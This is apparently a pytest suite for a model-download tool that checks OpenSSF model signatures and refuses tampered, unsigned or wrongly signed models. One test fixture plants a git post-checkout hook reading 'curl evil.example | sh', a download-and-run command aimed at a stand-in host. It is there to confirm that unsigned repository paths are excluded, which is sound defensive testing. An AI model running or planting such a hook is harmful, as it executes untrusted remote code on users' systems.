"""Signed models through `praesto-agent download --signature-*`: the OpenSSF model-signing bundle
(`model.sig`, signed by the library's own signing API with the tests' keys) is checked against the
files downloaded, before anything is published; a refusal publishes nothing and says why in one line.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from praesto import names
from testkit.egress import LOOPBACK_FLAG
from testkit.hub import LocalHub
from testkit.pki import CertificateAuthority, KeyPair
from testkit.signed_models import key_pair, sign_with_certificate, sign_with_key
from tests.download.conftest import tree_of


def _model() -> dict[str, bytes]:
    """Small and large (LFS) files, nested folders: what a Hub model repo holds."""
    return {
        "config.json": b'{"model_type": "test"}',
        "model.safetensors": os.urandom(1_300_000),
        "tokenizer/vocab.txt": b"a\nb\nc\n" * 100,
        "nested/deep/weights.bin": os.urandom(200_000),
    }


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "praesto.agent.cli", *args], capture_output=True, text=True, timeout=120
    )


def _download(hub: LocalHub, repo: str, dest: Path, *trust: str) -> subprocess.CompletedProcess[str]:
    staging = dest.parent / f"{dest.name}-staging"
    return _cli("download", f"hf://{repo}", "--dest", str(dest), "--endpoint", hub.endpoint,
                "--staging-dir", str(staging), "--quiet", LOOPBACK_FLAG, *trust)  # fmt: skip


def _assert_refused(done: subprocess.CompletedProcess[str], dest: Path, *cause: str) -> None:
    """Exit 4, one `error: SignatureInvalid: model.sig: ...` line naming the cause; nothing published."""
    assert done.returncode == names.DOWNLOAD_EXIT_SIGNATURE_INVALID, done.stderr
    errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1, done.stderr
    assert errors[0].startswith(f"error: SignatureInvalid: {names.DEFAULT_SIGNATURE_FILE}: "), errors
    for text in cause:
        assert text in errors[0], errors[0]
    assert not dest.exists()
    assert not (dest.parent / f"{dest.name}-staging").exists()  # nothing unverified kept either


@pytest.fixture
def publisher(tmp_path: Path) -> KeyPair:
    """The tests' signing key: `key_path` signs, `cert_path` is the public key that verifies."""
    return key_pair(tmp_path / "keys" / "publisher.key")


def test_signed_model_verifies_and_manifest_records_signer_and_method(
    hub: LocalHub, tmp_path: Path, publisher: KeyPair
) -> None:
    key = publisher.cert_path
    files = sign_with_key(_model(), publisher)
    commit = hub.add_repo("org/signed", files)
    dest = tmp_path / "out"
    done = _download(hub, "org/signed", dest, "--signature-public-key", str(key))
    assert done.returncode == 0, done.stderr
    assert tree_of(dest) == files  # model.sig is published with the model it signs
    assert (dest / names.COMPLETE_FILE).read_text().strip() == commit
    record = json.loads((dest / names.MANIFEST_FILE).read_text())[names.MANIFEST_SIGNATURE]
    assert record["method"] == "publicKey" and record["path"] == names.DEFAULT_SIGNATURE_FILE
    assert record["signer"].startswith("key sha256:") and record["verifiedWith"] == "model-signing 1.1.1"
    assert record["trustFrom"] == f"--signature-public-key {key}"
    again = _download(hub, "org/signed", dest, "--signature-public-key", str(key))  # already complete
    assert again.returncode == 0, again.stderr


# What the model-signing library never hashes (src/model_signing/hashing.py, `Config.hash`): a repo
# may carry them, and they would otherwise sit unsigned beside a "verified" model (issue 37 item 4).
GIT_PATHS = {
    ".gitattributes": b"*.safetensors filter=lfs diff=lfs merge=lfs -text\n",
    ".gitignore": b"*.tmp\n",
    ".github/workflows/ci.yml": b"on: push\n",
    ".git/hooks/post-checkout": b"#!/bin/sh\ncurl evil.example | sh\n",
}


def test_a_signed_model_publishes_exactly_the_files_the_signature_covers(
    hub: LocalHub, tmp_path: Path, publisher: KeyPair
) -> None:
    """The git paths, and what the signer itself left out (`ignore_paths` in the signed payload), are
    not published: the copy holds the signed files and the bundle, and its manifest names the rest;
    the same plan again is complete as it is (nothing fetched)."""
    key = publisher.cert_path
    model = {**_model(), "notes.txt": b"the signer left this out"}
    signed = sign_with_key(model, publisher, ignore=("notes.txt",))
    hub.add_repo("org/extras", {**signed, **GIT_PATHS})
    dest = tmp_path / "out"
    done = _download(hub, "org/extras", dest, "--signature-public-key", str(key))
    assert done.returncode == 0, done.stderr
    published = {k: v for k, v in signed.items() if k != "notes.txt"}
    assert tree_of(dest) == published
    assert not (dest / ".git").exists() and not (dest / ".github").exists()
    manifest = json.loads((dest / names.MANIFEST_FILE).read_text())
    excluded = manifest[names.MANIFEST_SIGNATURE][names.MANIFEST_SIGNATURE_EXCLUDED]
    assert excluded == sorted([*GIT_PATHS, "notes.txt"])
    assert {f["path"] for f in manifest["files"]} == set(published)
    hub.reset_counters()
    again = _download(hub, "org/extras", dest, "--signature-public-key", str(key))
    assert again.returncode == 0, again.stderr
    assert hub.bytes_served == 0 and tree_of(dest) == published


@pytest.mark.parametrize(
    ("tamper", "cause"),
    [
        ("changed byte", ("Hash mismatch for 'model.safetensors'",)),
        ("extra file", ("Extra files found", "extra.bin")),
        ("missing file", ("Missing files", "tokenizer/vocab.txt")),
        ("other key", ("signed by another key",)),
        ("no signature", ("missing",)),
        ("garbled signature", ("not an OpenSSF model-signing bundle",)),
    ],
)
def test_tampered_or_unsigned_model_is_refused_and_nothing_published(
    hub: LocalHub, tmp_path: Path, publisher: KeyPair, tamper: str, cause: tuple[str, ...]
) -> None:
    key = publisher.cert_path
    files = sign_with_key(_model(), publisher)
    if tamper == "changed byte":
        weights = bytearray(files["model.safetensors"])
        weights[1000] ^= 1
        files["model.safetensors"] = bytes(weights)
    elif tamper == "extra file":
        files["extra.bin"] = b"not signed"
    elif tamper == "missing file":
        del files["tokenizer/vocab.txt"]
    elif tamper == "other key":
        files = sign_with_key(_model(), key_pair(tmp_path / "keys" / "intruder.key"))
    elif tamper == "no signature":
        del files[names.DEFAULT_SIGNATURE_FILE]
    else:
        files[names.DEFAULT_SIGNATURE_FILE] = files[names.DEFAULT_SIGNATURE_FILE][:-40]
    hub.add_repo("org/model", files)
    dest = tmp_path / "out"
    _assert_refused(_download(hub, "org/model", dest, "--signature-public-key", str(key)), dest, *cause)


def test_certificate_method_verifies_chain_and_refuses_another_ca(hub: LocalHub, tmp_path: Path) -> None:
    ca = CertificateAuthority(tmp_path / "pki", "model-publisher-ca")
    files = sign_with_certificate(_model(), ca, common_name="publisher.example")
    hub.add_repo("org/certified", files)
    dest = tmp_path / "out"
    done = _download(hub, "org/certified", dest, "--signature-certificate", str(ca.cert_path))
    assert done.returncode == 0, done.stderr
    assert tree_of(dest) == files
    record = json.loads((dest / names.MANIFEST_FILE).read_text())[names.MANIFEST_SIGNATURE]
    assert record["method"] == "certificate" and record["signer"].startswith("CN=publisher.example")

    stranger = CertificateAuthority(tmp_path / "other-pki", "someone-else-ca")
    other = tmp_path / "other"
    refused = _download(hub, "org/certified", other, "--signature-certificate", str(stranger.cert_path))
    _assert_refused(refused, other, "does not chain to the trusted CA certificates")


def test_signature_flags_misuse_is_a_usage_error(tmp_path: Path, publisher: KeyPair) -> None:
    key = publisher.cert_path
    both = _cli("download", "hf://org/x", "--dest", str(tmp_path / "d"), "--signature-public-key", str(key),
                "--signature-certificate", str(key))  # fmt: skip
    assert both.returncode == 2 and "not several" in both.stderr
    unreadable = _cli("download", "hf://org/x", "--dest", str(tmp_path / "d"),
                      "--signature-public-key", str(tmp_path / "absent.pub"))  # fmt: skip
    assert unreadable.returncode == 2 and "--signature-public-key" in unreadable.stderr
    escaping = _cli("download", "hf://org/x", "--dest", str(tmp_path / "d"), "--signature-public-key", str(key),
                    "--signature-path", "../model.sig")  # fmt: skip
    assert escaping.returncode == 2 and "relative to the model's root" in escaping.stderr


def test_keyless_sigstore_is_configured_and_says_so_when_sigstore_is_unreachable(
    hub: LocalHub, tmp_path: Path, publisher: KeyPair
) -> None:
    """Keyless Sigstore needs Sigstore's public services, which this machine cannot reach: the
    download stops before publishing with a temporary error (exit 75) that says what is missing."""
    hub.add_repo("org/keyless", sign_with_key(_model(), publisher))
    dest = tmp_path / "out"
    done = _download(hub, "org/keyless", dest, "--signature-identity", "publisher@example.com",
                     "--signature-oidc-issuer", "https://accounts.example.com")  # fmt: skip
    if done.returncode == names.DOWNLOAD_EXIT_SIGNATURE_INVALID:  # reached Sigstore: a key bundle is refused
        assert "error: SignatureInvalid: model.sig: " in done.stderr
    else:
        assert done.returncode == 75, done.stderr
        assert "error: SourceUnavailable: model.sig: keyless Sigstore verification" in done.stderr
    assert not dest.exists()
